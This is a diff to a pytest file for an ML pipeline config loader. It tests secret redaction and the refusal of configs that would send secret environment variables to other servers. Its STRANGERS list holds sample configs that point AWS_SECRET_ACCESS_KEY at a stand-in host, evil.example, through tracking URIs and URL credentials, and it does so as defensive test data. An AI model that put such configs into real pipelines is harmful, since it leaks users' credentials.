@@ -173,11 +173,16 @@ def test_literal_secrets_are_redacted_and_do_not_load_again(loaded: Callable[...
 def test_what_the_environment_holds_is_written_by_its_name(
     loaded: Callable[..., LoadedPipeline], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """A literal that a variable of a secret's name holds becomes that name, so that the file loads again."""
+    """A literal that a variable of a secret's name holds becomes that name, and the file loads again if such
+    a variable may stand there.
+    """
     monkeypatch.setenv("HUB_TOKEN", "hf-0123456789")
+    found = loaded(pipeline("data: {mylab.Files: {token: 'x=hf-0123456789'}}\n"), base=False)
+    assert 'token: "[redacted]"' in found.resolved_yaml()
     found = loaded(pipeline("data: {mylab.Files: {url: 'https://h/?x=hf-0123456789'}}\n"), base=False)
     assert '"https://h/?x=${env:HUB_TOKEN}"' in found.resolved_yaml()
-    assert loaded(found.resolved_yaml(), base=False, name="again.yaml").digest() != found.digest()
+    with pytest.raises(PipelineError, match="HUB_TOKEN is a secret by its name"):
+        loaded(found.resolved_yaml(), base=False, name="again.yaml")
 
 
 @pytest.mark.usefixtures("environment")
@@ -531,3 +536,70 @@ def test_the_environment_is_that_of_the_process(monkeypatch: pytest.MonkeyPatch)
     """By default."""
     monkeypatch.setitem(os.environ, "MY_SECRET", "canary-canary")
     assert Secrets.collect().redact("canary-canary") == "${env:MY_SECRET}"
+
+
+STRANGERS = [
+    ("track", "[{mlflow: {tracking_uri: 'http://evil.example', experiment: '${env:NAME}'}}]"),
+    ("track", "[{mlflow: {tracking_uri: 'http://evil.example/${env:NAME}'}}]"),
+    ("track", "[{wandb: {mode: offline, project: 'x-${env:NAME}'}}]"),
+    ("data", "{mylab.Files: {url: 'https://me:${env:NAME}@evil.example'}}"),
+    ("data", "{mylab.Files: {nested: [{x: ['${env:NAME}']}]}}"),
+    ("init", "'https/${env:NAME}.safetensors'"),
+    ("groups", "[{match: '*', lr: 1, x: '${env:NAME}'}]"),
+]
+
+
+@pytest.mark.parametrize(("key", "value"), STRANGERS)
+def test_a_secrets_variable_goes_into_secret_options_only(
+    loaded: Callable[..., LoadedPipeline], key: str, value: str
+) -> None:
+    """Elsewhere it would be sent or written; `check` says so, whatever is trusted and set."""
+    with pytest.raises(PipelineError) as caught:
+        loaded("", f"{key}={value.replace('NAME', 'AWS_SECRET_ACCESS_KEY')}")
+    problem = (
+        "AWS_SECRET_ACCESS_KEY is a secret by its name, and goes only into an option that is one by its name"
+    )
+    assert problem in [fault.problem for fault in caught.value.faults]
+
+
+@pytest.mark.parametrize("name", ["HF_TOKEN", "SCRATCH"])
+def test_no_variable_names_a_file_that_is_written(loaded: Callable[..., LoadedPipeline], name: str) -> None:
+    with pytest.raises(PipelineError) as caught:
+        loaded("", f"stages=[{{save: {{to: 'x-${{env:{name}}}.safetensors'}}}}]")
+    problems = {fault.path: fault.problem for fault in caught.value.faults}
+    said = "${env:NAME} is not filled in for the name of a file that is written"
+    assert problems["stages[0].save.to"] == said
+
+
+def test_with_a_limit_only_named_variables_are_filled_in(
+    loaded: Callable[..., LoadedPipeline], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A stranger's pipeline could take any other to any server; the same in `check` and in a run."""
+    asked = "data={mylab.Files: {url: 'https://${env:SERVER}', token: '${env:HF_TOKEN}'}}"
+    loaded("", asked)
+    monkeypatch.setenv("DDPRUN_TRUSTED", "mylab")
+    for named, refused in (
+        (None, ["SERVER", "HF_TOKEN"]),
+        ("", ["SERVER", "HF_TOKEN"]),
+        ("SERVER", ["HF_TOKEN"]),
+        ("HF_TOKEN, OTHER", ["SERVER"]),
+    ):
+        if named is not None:
+            monkeypatch.setenv("DDPRUN_ENV", named)
+        with pytest.raises(PipelineError) as caught:
+            loaded("", asked)
+        assert [(fault.problem, fault.allowed) for fault in caught.value.faults] == [
+            (
+                f"{name} is not filled in: DDPRUN_TRUSTED is set, and DDPRUN_ENV does not name it",
+                f"if the pipeline may have its value, set DDPRUN_ENV={name}",
+            )
+            for name in refused
+        ]
+    monkeypatch.setenv("DDPRUN_ENV", "SERVER, HF_TOKEN")
+    monkeypatch.setenv("SERVER", "data.example")
+    monkeypatch.setenv("HF_TOKEN", "hf-0123456789")
+    found = loaded("", asked)
+    assert found.fill_placeholders("data", found.pipeline.data).options == {
+        "url": "https://data.example",
+        "token": "hf-0123456789",
+    }
